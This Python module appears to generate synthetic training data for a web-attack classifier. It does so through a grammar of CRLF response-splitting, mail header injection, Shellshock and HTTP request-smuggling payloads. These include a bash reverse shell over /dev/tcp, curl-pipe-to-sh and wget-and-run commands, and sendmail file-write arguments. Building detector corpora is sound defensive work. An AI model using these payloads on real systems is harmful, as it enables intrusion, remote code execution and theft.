"""Attacks that live in lines and headers: response splitting, mail, Shellshock, smuggling."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import percent
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
br:
  6×%0d%0a
  4×%0D%0A
  4×‹crlf›
  3×‹nl›
  3×%0a
  2×%0d
  %0A
  \r\n
  %250d%250a
  %25%30%41
  %E5%98%8A%E5%98%8D
  嘊嘍
  %u000a
  %u000d%u000a
  %c4%8d%c4%8a
  čĊ
  %23%0d%0a
  %3f%0d%0a
  %0d%0a%20
  %0d%09
  %%0d0a
  \u000d\u000a
  %25250a
  &#13;&#10;
  ‹cr›
  %20%0d%0a
  %0b%0d%0a
  %e2%80%a8
  %c2%85
hname = Set-Cookie¦Set-Cookie¦Set-Cookie¦Location¦X-Injected¦Content-Type¦Content-Length¦X-XSS-Protection¦Refresh¦Host¦Link¦X-Test¦Access-Control-Allow-Origin¦Header-Test¦Transfer-Encoding¦Last-Modified¦Set-cookie¦Injected-Header¦X-Forwarded-Host¦new-header¦crlf¦Content-Disposition¦Status¦Content-Security-Policy¦Server¦Via¦Set-Cookie2¦Proxy-Authenticate
hval:
  3×‹az›=‹rnd›
  2×crlf‹az›=‹rnd›
  ‹rnd›
  ‹az›=‹az›;
  http://‹host›/
  text/html
  0
  ‹n›
  *
  sessionid=‹hexrun›; path=/; domain=‹site›
  text/html; charset=UTF-7
  0;url=‹url›
  <script>alert(‹d1›)</script>
  chunked
  admin=true
split:
  6×‹pre›‹br›‹hname›:‹sp›‹hval›
  4×‹pre›‹br›‹hname›:‹hval›
  2×‹br›‹hname›:%20‹hval›
  2×/‹br›‹hname›:‹hval›
  ‹pre›‹br›‹hname›%3A‹hval›
  2×‹pre›‹br›‹hname›: ‹hval›‹br›‹hname›: ‹hval›
  2×‹pre›‹br›‹br›<script>alert(‹d1›)</script>
  ‹pre›‹br›‹br›<html><h1>‹word›</h1></html>
  ‹pre›‹br›Content-Length: 0‹br›‹br›HTTP/1.1 200 OK‹br›Content-Type: text/html‹br›Content-Length: ‹n›‹br›‹br›<html>‹word›</html>
  ‹pre›‹br›Content-Type: text/html‹br›‹br›<script>alert(document.domain)</script>
  ‹pre›‹br›‹br›HTTP/1.1 200 OK‹br›‹hname›: ‹hval›
  ‹pre› HTTP/1.1‹br›Host: ‹host›‹br›‹br›
  ‹pre› HTTP/1.1‹br›‹hname›: ‹hval›‹br›‹br›GET /‹az› HTTP/1.1‹br›Host: ‹site›
  http://‹site›‹br›‹hname›: ‹hval›
  http://‹site›/‹br›‹hname›:‹hval›
  //‹site›/‹br›‹hname›:‹hval›
  ‹pre›‹br›‹hname›=‹hval›
  ‹pre›?‹br›‹hname›: ‹hval›
  __session_start__/‹br›‹hname›: ‹hval›;
  ‹az›.htm‹br›‹br›<script>alert(document.domain)</script>
  ‹br›‹br›
  ‹pre›‹br› ‹hname› : ‹hval›
  ‹pre›‹br›‹az›:‹az›
  ‹pre›‹br›127.0.0.1 - - [‹#10-28›/Jan/202‹d1›:‹#10-23›:‹#10-59›:‹#10-59› +0000] "GET / HTTP/1.1" 200
mailh:
  4×‹mail›‹br›‹Bcc¦Cc¦To¦bcc¦cc›:‹sp›‹mail›
  2×‹mail›‹br›Subject:‹sp›‹word› ‹word›
  ‹mail›‹br›Bcc:‹mail›,‹mail›,‹mail›
  ‹mail›‹br›From: ‹mail›
  ‹mail›‹br›Content-Type: multipart/mixed; boundary=‹rnd›‹br›‹br›--‹rnd›
  ‹mail›‹br›‹br›‹word› ‹url›
  ‹word›‹br›Bcc: ‹mail›
  ‹user›‹br›To: ‹mail›‹br›‹br›‹word›
  ‹mail›>‹br›RCPT TO:<‹mail›>
  ‹mail›>‹br›DATA‹br›‹word›‹br›.‹br›
  ‹mail›‹br›.‹br›MAIL FROM:<‹mail›>‹br›RCPT TO:<‹mail›>‹br›DATA
  "‹user›‹br›Bcc: ‹mail›"@‹site›
  ‹mail›,‹mail›‹br›Reply-To: ‹mail›
  ‹n› BODY[HEADER]‹br›V100 LOGOUT
  ‹pre›"‹br›V‹n› CAPABILITY‹br›V‹n› FETCH ‹d1›
  ‹mail›%0ACc:‹mail›%0ABcc:‹mail›
  "><script>alert(‹d1›)</script>"@‹site›
  "‹user› -X/var/www/html/‹rnd›.php -OQueueDirectory=/tmp"@‹site›
  "attacker\" -oQ/tmp/ -X‹u_file› some"@‹site›
  ‹user›+(${‹ucmd0›})@‹site›
  `‹ucmd0›`@‹site›
  ‹mail›|‹ucmd0›
shock:
  8×() { :;‹?sp›}; ‹shcmd›
  4×() { :; };‹sp›‹shcmd›
  2×() { ‹_¦ignored¦test¦foo¦x¦a›;}; ‹shcmd›
  () { :;}; echo; ‹shcmd›
  () { :; }; echo Content-Type: text/plain; echo; ‹shcmd›
  () { :;};echo "‹rnd›: $(‹ucmd0›)"
  () { (a)=>\' /bin/sh -c '‹ucmd›'; echo ‹rnd›
  () { _; } >_[$($())] { ‹ucmd›; }
  () { 0; }; ‹ucmd›;
  () { ‹az›;};‹shcmd›
  () { :;}; a=`‹ucmd0›`;echo $a
  ‹az›=() { :; }; ‹shcmd›
  (){:;};‹shcmd›
  () %7B :;%7D; ‹shcmd›
  ()%20{%20:;%20};%20‹shcmd›
  () { x() { _;}; x() { _;} <<‹az›; }
  () { :;}; ‹shcmd› &
  () { :; }; ; ‹shcmd›
shcmd:
  3×/bin/bash -c "‹ucmd›"
  3×/bin/bash -c '‹ucmd›'
  2×echo ‹rnd›
  2×‹ucmd›
  /bin/cat ‹u_file›
  /bin/ping -c‹d1› ‹host›
  /usr/bin/wget -q ‹url› -O /tmp/‹rnd›
  /usr/bin/curl -s ‹url› | sh
  wget -q -O /dev/null ‹url›
  /bin/bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  /bin/sleep ‹#1-30›
  /usr/bin/env bash -c "cd /tmp;wget http://‹ip›/‹shfile›;sh ‹shfile›"
  echo -e "Content-Type: text/plain\n"; ‹ucmd›
  /usr/bin/perl -e 'print "‹rnd›"'
  python -c "print ‹n›*‹n›"
  /usr/bin/id
  echo vulnerable
  echo; echo; /bin/bash -c 'expr ‹n› + ‹n›'
smuggle:
  chunked‹crlf›‹az›: x
  ‹sp›chunked
  chunked, ‹identity¦cow¦gzip›
  xchunked
  chunked‹crlf›Transfer-Encoding: ‹az›
  ‹tab›chunked
  "chunked"
  chunk
  ‹vt›chunked
  0‹crlf›‹crlf›GET /‹az› HTTP/1.1‹crlf›Host: ‹site›‹crlf›‹crlf›
  0‹crlf›‹crlf›POST /‹az› HTTP/1.1‹crlf›Content-Length: ‹n›‹crlf›‹crlf›x=
  ‹az›‹crlf›‹crlf›GET /admin HTTP/1.1‹crlf›X-Ignore: X
  /‹az› HTTP/1.1‹crlf›Host: ‹site›‹crlf›‹crlf›GET /‹az›
  GET /‹az› HTTP/1.1‹crlf›Host: ‹lo›‹crlf›‹crlf›
lo = localhost¦127.0.0.1¦intranet
""",
    PARTS,
    {"cr": lambda rng: "\r", "vt": lambda rng: "\x0b"},
)


def _encode(rng: Random, text: str) -> str:
    """Rarely percent-encoded once more."""
    return percent(text) if rng.random() < 0.04 else text


KINDS = (
    AttackKind(
        "crlf.split", Category.CRLF, _G.maker("split", _encode), 4.0, (VALUE, NAME, PATH, COOKIE)
    ),
    AttackKind("crlf.mail", Category.CRLF, _G.maker("mailh"), 2.0, (VALUE,)),
    AttackKind("crlf.smuggling", Category.CRLF, _G.maker("smuggle"), 1.0, (HEADER, VALUE)),
    AttackKind(
        "shellshock", Category.SHELLSHOCK, _G.maker("shock", _encode), 2.0, (HEADER, COOKIE, VALUE)
    ),
)
